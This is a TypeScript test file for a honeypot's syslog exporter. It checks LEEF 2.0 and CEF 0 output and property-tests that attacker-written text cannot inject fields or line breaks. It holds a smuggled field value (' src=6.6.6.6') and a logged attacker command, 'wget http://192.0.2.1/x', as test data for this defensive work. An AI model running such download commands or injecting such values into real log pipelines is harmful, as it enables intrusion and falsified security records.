import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sampleCommand, sampleDecision, sampleDetection, sampleLogin } from '../exporter-sample.ts';
import { EXPORT_LIMITS } from '../limits.ts';
import { visibleText } from '../visible-text.ts';
import { syslogMessage } from './security-message.ts';

/** Well-formed text of every kind, and often of what the formats give a meaning. */
const attackerText = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary', maxLength: 10 }),
      fc.constantFrom('|', '=', '\\', '\n', '\r\n', '\t', ' src=6.6.6.6', '^', 'x09', '\u2028', '\\n', '\\='),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join('').toWellFormed().replaceAll('\0', ''))
  .filter((text) => text !== '');

/** As a receiver reads LEEF 2.0. */
function readLeef(message: string): Map<string, string> {
  const body = message.slice(message.indexOf('LEEF:'));
  const [version, , , , , delimiter, ...rest] = body.split('|');
  expect([version, delimiter]).toEqual(['LEEF:2.0', 'x09']);
  const attributes = rest.join('|').split('\t');
  return new Map(attributes.map((pair) => [pair.slice(0, pair.indexOf('=')), pair.slice(pair.indexOf('=') + 1)]));
}

/** As a receiver reads CEF 0: a key begins after a space and ends at an `=` without a backslash before it. */
function readCef(message: string): Map<string, string> {
  const body = message.slice(message.indexOf('CEF:'));
  const parts = /^CEF:0(?:\|(?:[^|\\]|\\.)*){6}\|(.*)$/su.exec(body);
  const extension = parts?.[1] ?? '';
  const pairs = new Map<string, string>();
  const unescaped = [...extension.matchAll(/(?<=^| )([A-Za-z0-9]+)=((?:[^\\=]|\\.)*?)(?= [A-Za-z0-9]+=|$)/gsu)];
  for (const [, key = '', value = ''] of unescaped) pairs.set(key, value.replace(/\\([\\=])/g, '$1'));
  return pairs;
}

describe('events as syslog messages', () => {
  it('are LEEF 2.0 as QRadar reads it', () => {
    expect(syslogMessage(sampleLogin(1), 'leef')).toBe(
      [
        '<109>1 2026-05-01T10:00:00.123456Z sensor-1 cerberusmesh - credential.tried - LEEF:2.0|CerberusMesh|CerberusMesh|1|credential.tried|x09|devTime=2026-05-01T10:00:00.123Z',
        "devTimeFormat=yyyy-MM-dd'T'HH:mm:ss.SSSX",
        'cat=authentication',
        'sev=3',
        'src=198.51.100.7',
        'srcPort=40000',
        'dst=203.0.113.5',
        'dstPort=22',
        'proto=ssh',
        'usrName=root',
        'eventUuid=01990000-0000-7000-8000-000000000001',
        'sessionId=01990000-0000-7000-8000-0000000000aa',
        'trap=ssh',
        'sensor=sensor-1',
        'outcome=failure',
        'method=password',
      ].join('\t'),
    );
  });

  it('are CEF 0', () => {
    expect(syslogMessage(sampleDetection(2), 'cef')).toBe(
      '<108>1 2026-05-01T10:00:00.123456Z sensor-1 cerberusmesh - detection.raised - ' +
        'CEF:0|CerberusMesh|CerberusMesh|1|detection.raised|A technique was seen|6|' +
        'rt=1777629600123 externalId=01990000-0000-7000-8000-000000000002 dvchost=sensor-1 cat=detection ' +
        'src=198.51.100.7 spt=40000 dst=203.0.113.5 dpt=22 app=ssh ' +
        'cs1Label=session cs1=01990000-0000-7000-8000-0000000000aa cs2Label=trap cs2=ssh ' +
        'cs3Label=command cs3=wget http://192.0.2.1/x cs4Label=technique cs4=T1105 cs5Label=rule cs5=download-tool ' +
        'cfp1Label=score cfp1=0.9',
    );
  });

  it('say what an attacker wrote and nothing more, read back from LEEF', () => {
    fc.assert(
      fc.property(attackerText, (text) => {
        const message = syslogMessage(sampleCommand(1, text), 'leef');
        expect(message).not.toMatch(/[\r\n\u2028\u2029\u0085]/);
        const read = readLeef(message);
        expect(read.get('command')).toBe(visibleText(text, EXPORT_LIMITS.maxSyslogTextCharacters));
        expect([read.get('src'), read.size]).toEqual([
          '198.51.100.7',
          readLeef(syslogMessage(sampleCommand(1, 'x'), 'leef')).size,
        ]);
      }),
    );
  });

  it('say what an attacker wrote and nothing more, read back from CEF', () => {
    fc.assert(
      fc.property(attackerText, (text) => {
        const message = syslogMessage(sampleLogin(1, text), 'cef');
        expect(message).not.toMatch(/[\r\n\u2028\u2029\u0085]/);
        const read = readCef(message);
        // A receiver trims nothing: the value is exact.
        expect(read.get('duser')).toBe(visibleText(text, EXPORT_LIMITS.maxSyslogTextCharacters));
        expect([read.get('src'), read.size]).toEqual([
          '198.51.100.7',
          readCef(syslogMessage(sampleLogin(1, 'x'), 'cef')).size,
        ]);
      }),
    );
  });

  it.each(['leef', 'cef'] as const)('stay within what receivers take: %s', (format) => {
    for (const text of ['=|\\'.repeat(20_000), '\n'.repeat(60_000), '\u{1F480}'.repeat(15_000)]) {
      for (const event of [sampleCommand(1, text), sampleLogin(1, text), sampleDecision(1, 5, text)]) {
        expect(Buffer.byteLength(syslogMessage(event, format))).toBeLessThanOrEqual(
          EXPORT_LIMITS.maxSyslogMessageBytes,
        );
      }
    }
  });
});
